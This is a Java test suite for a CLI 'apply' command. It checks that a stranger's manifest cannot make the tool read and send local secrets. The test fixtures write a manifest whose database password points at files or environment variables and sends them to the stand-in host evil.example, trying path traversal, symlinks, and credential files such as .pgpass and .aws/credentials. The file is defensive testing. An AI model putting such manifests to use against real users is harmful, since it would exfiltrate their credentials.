package dev.cairn.cli.manifest;

import static org.assertj.core.api.Assertions.assertThat;

import dev.cairn.cli.Command;
import dev.cairn.cli.TestServer;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The manifest of a stranger, who names the host that passwords are sent to. */
class ApplyTest {
  @TempDir private Path home;
  @TempDir private Path elsewhere;
  private Path directory;
  private Map<String, String> variables = Map.of();
  private TestServer server;

  @BeforeEach
  void start() throws IOException {
    directory = Files.createDirectory(elsewhere.resolve("theirs"));
    Files.writeString(elsewhere.resolve("private"), "hunter2\n");
    Files.writeString(directory.resolve("own"), "meant for it\n");
    Files.createSymbolicLink(directory.resolve("link"), elsewhere.resolve("private"));
    server =
        new TestServer(home)
            .answer(
                "POST /apply",
                "{\"stack\":\"theirs\",\"changes\":[],\"notes\":[],\"operations\":[]}");
  }

  @AfterEach
  void stop() {
    server.close();
  }

  private String sent(String password, String... more) throws Exception {
    var file = directory.resolve("cairn.yaml");
    Files.writeString(
        file,
        """
        stack: theirs
        stages:
          - name: dev
            databases:
              - engine: postgres
                attached: { host: evil.example, database: d, username: u, password: "%s" }
        """
            .formatted(password));
    var arguments = new ArrayList<>(List.of("apply", "-f", file.toString()));
    arguments.addAll(List.of(more));
    int before = server.bodies().size();
    var outcome = new Command(home, variables).run(arguments.toArray(String[]::new));
    return server.bodies().size() == before
        ? outcome.err()
        : String.join("", server.bodies().subList(before, server.bodies().size()));
  }

  @Test
  void onlyFilesBelowItAreRead() throws Exception {
    assertThat(sent("file:own")).contains("meant for it");
    for (var name : List.of("../private", elsewhere.resolve("private"), "link")) {
      assertThat(sent("file:" + name)).doesNotContain("hunter2").contains("does not lie below");
    }
  }

  @Test
  void hiddenFilesAreReadOnlyWhereThePersonNamesThem() throws Exception {
    write(".pgpass", "hunter2");
    write(".aws/credentials", "hunter2");
    write("secrets/db", "meant for it");
    Files.createSymbolicLink(directory.resolve("seen"), directory.resolve(".pgpass"));
    assertThat(sent("file:secrets/db")).contains("meant for it");
    for (var name : List.of(".pgpass", ".aws/credentials", "secrets/../.pgpass", "seen")) {
      assertThat(sent("file:" + name)).as(name).contains("theirs").doesNotContain("hunter2");
      assertThat(sent("file:" + name, "--allow-file", "own")).doesNotContain("hunter2");
      assertThat(sent("file:" + name, "--allow-file", name)).as(name).contains("hunter2");
    }
  }

  @Test
  void inAHomeAllFilesAreReadOnlyWhereThePersonNamesThem() throws Exception {
    for (var at : List.of(directory, Files.createDirectories(directory.resolve("home/ada")))) {
      variables = Map.of("HOME", at.toString());
      assertThat(sent("file:own")).contains("theirs").doesNotContain("meant for it");
      assertThat(sent("file:own", "--allow-file", "own")).contains("meant for it");
    }
    variables = Map.of("HOME", elsewhere.toString());
    assertThat(sent("file:own")).as("a project in a home").contains("meant for it");
  }

  @Test
  void whereAnybodyWritesFilesAreReadOnlyWhereThePersonNamesThem() throws Exception {
    Files.setPosixFilePermissions(directory, PosixFilePermissions.fromString("rwxrwxrwx"));
    assertThat(sent("file:own")).contains("theirs").doesNotContain("meant for it");
    assertThat(sent("file:own", "--allow-file", "own")).contains("meant for it");
  }

  private void write(String name, String text) throws IOException {
    var file = directory.resolve(name);
    Files.createDirectories(file.getParent());
    Files.writeString(file, text);
  }

  @Test
  void aDryRunSendsNoPassword() throws Exception {
    assertThat(sent("file:own", "--dry-run")).doesNotContain("meant for it").contains("theirs");
    assertThat(sent("env:CAIRN_HOME", "--dry-run", "--allow-env", "CAIRN_HOME"))
        .doesNotContain(home.toString());
  }

  /** Which source a file names, the server reads; what it may have is said here. */
  @Test
  void sourcesAreOfItsOwnDirectoryAndOfWhatThePersonNames() throws Exception {
    var own = "\"" + directory + "\"";
    for (var dryRun : List.of("--wait", "--dry-run")) {
      assertThat(sent("file:own", dryRun)).contains(allowed(own));
      assertThat(sent("file:own", dryRun, "--allow-source", "../private"))
          .contains(allowed(own + ",\"" + elsewhere.resolve("private") + "\""));
    }
    assertThat(sent("file:own", "--allow-secret", "dev-shop-postgres"))
        .contains("\"secrets\":[\"dev-shop-postgres\"]");
  }

  @Test
  void inAHomeOrWhereAnybodyWritesSourcesAreOnlyWhatThePersonNames() throws Exception {
    var own = "\"" + directory + "\"";
    for (var at : List.of(directory, Files.createDirectories(directory.resolve("home/ada")))) {
      variables = Map.of("HOME", at.toString());
      assertThat(sent("file:own")).contains(allowed(""));
      assertThat(sent("file:own", "--allow-source", ".")).contains(allowed(own));
    }
    variables = Map.of();
    Files.setPosixFilePermissions(directory, PosixFilePermissions.fromString("rwxrwxrwx"));
    assertThat(sent("file:own")).contains(allowed(""));
  }

  private static String allowed(String sources) {
    return "\"allowed\":{\"sources\":[" + sources + "],\"secrets\":[]}";
  }

  /** Such as a replica of what the same file makes. */
  @Test
  void whatWasPostponedIsAskedForOnceTheOthersHaveEnded() throws Exception {
    server
        .operation("7", "succeeded")
        .operation("8", "succeeded")
        .answers("POST /apply", List.of(round(7, "\"theirs/eu/postgres\""), round(8, "")));
    var file = directory.resolve("cairn.yaml");
    Files.writeString(file, "stack: theirs");
    assertThat(server.run("apply", "-f", file.toString(), "-o", "json").out())
        .contains("\"7\"", "\"8\"");
    assertThat(server.requests()).filteredOn("POST /api/v1/apply"::equals).hasSize(2);
  }

  @Test
  void nothingBeginsAfterWhatFailed() throws Exception {
    server
        .operation("7", "failed")
        .answers("POST /apply", List.of(round(7, "\"theirs/eu/postgres\"")));
    var file = directory.resolve("cairn.yaml");
    Files.writeString(file, "stack: theirs");
    assertThat(server.run("apply", "-f", file.toString()).err()).contains("ended as failed");
    assertThat(server.requests()).filteredOn("POST /api/v1/apply"::equals).hasSize(1);
  }

  private static String round(int operation, String postponed) {
    return """
        {"stack":"theirs","changes":[],"notes":[],
         "operations":[{"id":"%d","url":"/x"}],"postponed":[%s]}
        """
        .formatted(operation, postponed);
  }

  @Test
  void onlyVariablesThatThePersonNamesAreRead() throws Exception {
    assertThat(sent("env:CAIRN_HOME")).doesNotContain(home.toString());
    assertThat(sent("env:CAIRN_HOME", "--allow-env", "CAIRN_HOME")).contains(home.toString());
  }
}
